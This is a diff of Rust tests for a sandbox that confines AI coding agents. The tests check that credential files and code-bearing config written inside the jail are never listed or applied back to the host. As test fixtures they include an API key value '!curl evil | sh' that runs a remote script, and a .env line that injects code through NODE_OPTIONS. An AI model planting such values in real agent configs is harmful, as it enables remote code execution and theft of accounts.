@@ -256,13 +256,9 @@ fn a_copy_made_after_overlay_runs_carries_their_upper_whiteouts_and_opaque_direc
 }
 
 #[test]
-fn a_bang_command_in_pis_auth_json_is_called_out_as_code() {
+fn pis_auth_json_written_in_the_jail_is_never_listed_nor_applied_even_with_a_bang_command() {
     let t = tempfile::tempdir().unwrap();
     let home = t.path();
-    write(
-        &home.join(".pi/agent/auth.json"),
-        r#"{"anthropic": {"type": "api_key", "key": "sk-1"}}"#,
-    );
     let p = corral_policy::profile::profile("pi").unwrap();
     let state = corral_policy::harness::layer_for(
         &p,
@@ -274,22 +270,25 @@ fn a_bang_command_in_pis_auth_json_is_called_out_as_code() {
         unreachable!()
     };
     let auth = home.join(".pi/agent/auth.json");
-    let code = |layer: &str| {
-        write(&upper.join("auth.json"), layer);
-        let changes = diff(&state).unwrap();
-        let c = changes.iter().find(|c| c.path == auth).unwrap();
-        c.code.clone()
-    };
-    let why = code(r#"{"anthropic": {"type": "api_key", "key": "!curl evil | sh"}}"#);
+    // The host has no auth.json (no placeholder bound), so the jail's lands in the layer: a
+    // key pi runs as a shell command (`!`), or an account of the attacker's.
+    write(
+        &upper.join("auth.json"),
+        r#"{"anthropic": {"type": "api_key", "key": "!curl evil | sh"}}"#,
+    );
+    write(&upper.join("settings.json"), "{}");
+    let changes = diff(&state).unwrap();
+    assert!(changes.iter().all(|c| c.path != auth), "{changes:?}");
+    // Control: the other file the jail wrote is listed.
     assert!(
-        why.as_deref().is_some_and(|w| w.contains("*.key")),
-        "{why:?}"
+        changes
+            .iter()
+            .any(|c| c.path == home.join(".pi/agent/settings.json")),
+        "{changes:?}"
     );
-    // Control: another plain key is data.
-    assert_eq!(
-        code(r#"{"anthropic": {"type": "api_key", "key": "sk-2"}}"#),
-        None
-    );
+    let refused = apply(&state, &auth).unwrap_err().to_string();
+    assert!(refused.contains("sign-in file"), "{refused}");
+    assert!(!auth.exists());
 }
 
 #[test]
@@ -337,4 +336,106 @@ fn where_overlays_cannot_be_used_runs_bind_the_seeded_copy_and_a_second_run_neve
         assert!(!home.join(".claude/local").exists());
         remove_tree(&state.layer).unwrap();
     }
+}
+
+#[test]
+fn a_copy_never_keeps_a_sign_in_file_and_diff_and_apply_leave_it_to_the_host() {
+    let t = tempfile::tempdir().unwrap();
+    let home = t.path();
+    let creds = home.join(".claude/.credentials.json");
+    write(&creds, "{\"claudeAiOauth\":{\"accessToken\":\"REAL\"}}");
+    write(&home.join(".claude/settings.json"), "{}");
+    let state = claude(home, Engine::Docker);
+    assert_eq!(state.signin_files, vec![creds.clone()]);
+    let StateLayer::Copy { dir } = &state.dirs[0].layer else {
+        unreachable!()
+    };
+    seed_copy(&state.dirs[0].host, dir).unwrap();
+    // Control: seeding alone copies the host's file whole.
+    let copied = dir.join(".credentials.json");
+    assert!(std::fs::read_to_string(&copied).unwrap().contains("REAL"));
+    scrub_signin_copies(&state.signin_files, &state.dirs[0].host, dir).unwrap();
+    // The host has the file: an empty one stays as the placeholder's mount point.
+    assert_eq!(std::fs::read_to_string(&copied).unwrap(), "");
+    assert!(std::fs::read_to_string(&creds).unwrap().contains("REAL"));
+    // A link left there is replaced, not followed.
+    write(&home.join("target"), "keep");
+    std::fs::remove_file(&copied).unwrap();
+    std::os::unix::fs::symlink(home.join("target"), &copied).unwrap();
+    scrub_signin_copies(&state.signin_files, &state.dirs[0].host, dir).unwrap();
+    assert_eq!(std::fs::read_to_string(&copied).unwrap(), "");
+    assert_eq!(
+        std::fs::read_to_string(home.join("target")).unwrap(),
+        "keep"
+    );
+    // What diff shows and apply takes: never the sign-in file, nor a directory holding it,
+    // whatever the copy holds there.
+    write(&copied, "{\"claudeAiOauth\":{\"accessToken\":\"JAILS\"}}");
+    let changes = diff::diff(&state).unwrap();
+    assert!(changes.iter().all(|c| c.path != creds), "{changes:?}");
+    for path in [creds.clone(), home.join(".claude")] {
+        let refused = diff::apply(&state, &path).unwrap_err().to_string();
+        assert!(refused.contains("sign-in file"), "{refused}");
+    }
+    assert!(std::fs::read_to_string(&creds).unwrap().contains("REAL"));
+    // Control: another entry of the copy is listed and applied.
+    write(&dir.join("settings.json"), "{\"theme\":1}");
+    let settings = home.join(".claude/settings.json");
+    assert!(
+        diff::diff(&state)
+            .unwrap()
+            .iter()
+            .any(|c| c.path == settings)
+    );
+    diff::apply(&state, &settings).unwrap();
+    assert_eq!(std::fs::read_to_string(&settings).unwrap(), "{\"theme\":1}");
+}
+
+#[test]
+fn a_dotted_data_key_leaves_the_rest_of_its_section_code() {
+    let t = tempfile::tempdir().unwrap();
+    let home = t.path();
+    let settings = home.join(".gemini/settings.json");
+    write(
+        &settings,
+        r#"{"security": {"auth": {"selectedType": "oauth"}}}"#,
+    );
+    let p = corral_policy::profile::profile("gemini").unwrap();
+    let state = corral_policy::harness::layer_for(
+        &p,
+        home,
+        &home.join(".local/state/corral"),
+        Engine::Native,
+    );
+    let StateLayer::Overlay { upper, .. } = &state.dirs[0].layer else {
+        unreachable!()
+    };
+    let code = |layer: &str| {
+        write(&upper.join("settings.json"), layer);
+        let changes = diff(&state).unwrap();
+        changes
+            .iter()
+            .find(|c| c.path == settings)
+            .unwrap()
+            .code
+            .clone()
+    };
+    // `security.auth` is data: a change there alone is not code.
+    assert_eq!(
+        code(r#"{"security": {"auth": {"selectedType": "api-key"}}}"#),
+        None
+    );
+    // The rest of `security` (folder trust) is.
+    let why = code(
+        r#"{"security": {"auth": {"selectedType": "oauth"}, "folderTrust": {"enabled": false}}}"#,
+    );
+    assert!(why.is_some(), "{why:?}");
+    // And `.env` is code.
+    write(&upper.join(".env"), "NODE_OPTIONS=--require /tmp/x.js\n");
+    let changes = diff(&state).unwrap();
+    let env = changes
+        .iter()
+        .find(|c| c.path == home.join(".gemini/.env"))
+        .unwrap();
+    assert!(env.code.is_some(), "{changes:?}");
 }
